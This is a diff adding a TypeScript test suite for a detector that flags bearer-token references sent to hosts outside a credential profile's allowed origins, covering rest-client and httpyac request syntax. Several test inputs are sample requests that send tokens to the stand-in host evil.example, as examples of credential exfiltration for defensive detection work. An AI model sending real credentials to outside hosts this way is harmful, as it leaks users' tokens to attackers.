@@ -1,0 +1,48 @@
+import assert from 'node:assert/strict';
+import { referenceTo } from '../../../../src/http/reference';
+import { outsideOrigins } from '../../../../src/vscode/integrations/outside-origins';
+import { team, usableProfile } from '../../storage/profiles-of';
+
+const fields = { grant: 'client_credentials', clientId: 'c', issuer: 'https://sso.example.com' };
+const bound = usableProfile({ ...fields, id: 'bound', origins: ['https://*.example.com'] });
+const free = usableProfile({ ...fields, id: 'free' });
+const use = (id: string) => `Authorization: Bearer ${referenceTo(id)}`;
+
+describe('a token’s destination outside its profile’s origins', () => {
+  const cases: [what: string, text: string, marked: string[]][] = [
+    ['is marked at the reference', `GET https://evil.example/\n${use('bound')}`, [referenceTo('bound')]],
+    ['is not marked where the profile names it', `GET https://api.example.com/\n${use('bound')}`, []],
+    ['is not marked where the profile names none', `GET https://evil.example/\n${use('free')}`, []],
+    ['is not marked where there is no such profile', `GET https://evil.example/\n${use('other')}`, []],
+    ['is not marked where only the sender knows it', `GET {{host}}/\n${use('bound')}`, []],
+    [
+      'is marked at the request line where a variable has the reference',
+      `@auth = Bearer ${referenceTo('bound')}\n###\n  GET https://evil.example/ HTTP/1.1\nAuthorization: {{auth}}`,
+      ['GET https://evil.example/ HTTP/1.1'],
+    ],
+    [
+      'is marked in each request',
+      `GET https://evil.example/\n${use('bound')}\n###\nGET https://api.example.com/\n${use('bound')}\n###\nGET https://a.example/\n${use('bound')}`,
+      [referenceTo('bound'), referenceTo('bound')],
+    ],
+  ];
+  for (const [what, text, marked] of cases) {
+    it(what, () => {
+      for (const dialect of ['rest-client', 'httpyac'] as const) {
+        const found = outsideOrigins(text, dialect, [bound, free]);
+        assert.deepEqual(
+          found.map(({ place: { offset, length } }) => text.slice(offset, offset + length)),
+          marked,
+        );
+      }
+    });
+  }
+
+  it('is not marked where two profiles share the variable, or the profile cannot be used', () => {
+    const text = `GET https://evil.example/\n${use('bound')}`;
+    const same = usableProfile({ ...fields, id: 'bound', origins: ['https://api.example.com'] }, team('app'));
+    assert.deepEqual(outsideOrigins(text, 'httpyac', [bound, same]), []);
+    const broken = { usable: false, id: 'bound', home: bound.home, name: undefined, problems: [] } as const;
+    assert.deepEqual(outsideOrigins(text, 'httpyac', [broken]), []);
+  });
+});
